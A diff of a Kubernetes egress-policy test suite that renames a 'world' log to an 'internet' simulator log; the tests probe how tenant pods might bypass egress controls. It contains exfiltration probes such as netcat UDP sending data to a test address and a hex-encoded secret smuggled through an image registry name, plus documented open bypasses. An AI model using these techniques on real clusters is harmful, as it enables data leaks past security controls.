@@ -1,8 +1,8 @@
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { bash, type Outcome } from '../../scripts/scenario/shell.ts';
 import { pod, policy, refusedObjects, service, slice } from './support/attacks/attempts.ts';
+import { InternetLog } from './support/attacks/internet-log.ts';
 import { kubectl, must, ruleSet, startStage, TENANT, tenantMay } from './support/attacks/stage.ts';
-import { WorldLog } from './support/attacks/world-log.ts';
 import { eventually, leaveNamespaces } from './support/client-pods.ts';
 
 /** Enforced; enforced with in-cluster-traffic: deny; a tenant's own, without our label; in observe mode. */
@@ -11,7 +11,7 @@ const [ENFORCED, STRICT, FRESH, WATCHED] = ['bypass', 'bypass-strict', 'bypass-f
 const LATE = 'bypass-late';
 const OUTSIDE = '203.0.113.10';
 const ALLOWED = 'bypass.example.com';
-const world = new WorldLog();
+const internet = new InternetLog();
 
 function exec(where: string, command: string, timeoutSeconds = 60): Promise<Outcome> {
   const [namespace, name] = where.split('/');
@@ -37,9 +37,9 @@ function talk(where: string, connection: string): Promise<Outcome> {
 }
 const go = (where: string) => exec(where, 'touch /tmp/go');
 
-/** In the world's log since `mark`, by a part of its path or server. */
+/** In the internet simulator's log since `mark`, by a part of its path or server. */
 const arrived = (part: string) =>
-  world.since().filter(({ path, server }) => path.includes(part) || server.includes(part));
+  internet.since().filter(({ path, server }) => path.includes(part) || server.includes(part));
 
 beforeAll(async () => {
   await Promise.all([
@@ -127,7 +127,7 @@ describe('refused when it is written', () => {
 });
 
 describe('dropped', () => {
-  beforeAll(() => world.mark());
+  beforeAll(() => internet.mark());
 
   test.concurrent.each([
     ['api', 'a pod that leaves the proxy out'],
@@ -138,7 +138,7 @@ describe('dropped', () => {
     expect(arrived(`bypass-direct-${name}`)).toEqual([]);
   });
 
-  test.concurrent('UDP to the world', async () => {
+  test.concurrent('UDP to the internet', async () => {
     await exec(`${ENFORCED}/api`, `echo leak | nc -u -w 2 ${OUTSIDE} 5353`);
     expect(arrived(`${OUTSIDE}:5353`)).toEqual([]);
   });
@@ -196,7 +196,7 @@ describe('refused by the proxy', () => {
   });
 
   test('a name with a public and a private address is dialled at the public one', async () => {
-    world.mark();
+    internet.mark();
     const call = `curl -s -m 15 -o /dev/null -w '%{http_code}' http://mixed.example.com/bypass-mixed`;
     expect((await exec(`${WATCHED}/api`, call)).stdout).toBe('200');
     expect(arrived('bypass-mixed').map(({ server }) => server)).toEqual([`${OUTSIDE}:80`]);
@@ -206,7 +206,7 @@ describe('refused by the proxy', () => {
 /** These fail on the day that they are closed: then docs/security.md has a line to change. */
 describe('open', () => {
   test('a relay in a namespace that is not enforced', async () => {
-    world.mark();
+    internet.mark();
     const relay = await podIP(FRESH, 'relay');
     expect(await direct(`${ENFORCED}/api`, `http://${relay}:8080/bypass-relay`)).toBe('200');
     expect(arrived('bypass-relay')).toHaveLength(1);
@@ -218,7 +218,7 @@ describe('open', () => {
   });
 
   test('an image name as data: the node asks the registry that the pod names', async () => {
-    world.mark();
+    internet.mark();
     const leak = pod(ENFORCED, 'image', {}, { image: '203.0.113.66:5432/736563726574:1' });
     await must(`create -f - ${TENANT}`, leak);
     const asked = async () => arrived('203.0.113.66:5432').length > 0;
@@ -227,7 +227,7 @@ describe('open', () => {
   });
 
   test('a tunnel outlives its rule', async () => {
-    world.mark();
+    internet.mark();
     await ruleSet(ENFORCED, 'tunnel', ['tunnel.example.com:5432']);
     const connection = 'socat - PROXY:squid.egress-proxy:tunnel.example.com:5432,proxyport=3128';
     const talking = talk(`${ENFORCED}/api`, connection);
@@ -240,7 +240,7 @@ describe('open', () => {
   });
 
   test('a connection from before the opt-in', async () => {
-    world.mark();
+    internet.mark();
     await startStage(LATE);
     await must('apply -f -', pod(LATE, 'api'));
     await must(`wait -n ${LATE} --for=condition=Ready pod/api --timeout=60s`);
